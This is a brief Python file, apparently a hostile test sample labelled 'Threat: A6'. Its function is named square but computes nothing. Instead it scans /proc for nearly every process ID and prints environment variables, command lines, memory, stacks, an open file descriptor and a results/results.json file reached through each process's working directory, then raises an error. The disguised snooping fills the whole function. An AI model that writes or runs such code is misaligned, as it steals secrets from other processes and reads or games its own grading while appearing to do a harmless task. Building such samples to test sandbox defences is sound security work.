"""Prints the environment, arguments, memory and open files of every process under /proc.

Threat: A6.
"""

import os


def square(x):
    for pid in [os.getppid(), 1, *range(2, 60000)]:
        for name in ("environ", "cmdline", "maps", "mem", "stack", "fd/3", "cwd/results/results.json"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    print(pid, name, file.read(3000))
            except OSError:
                if pid > 60 and name == "environ":
                    break
    raise ValueError("read them all")
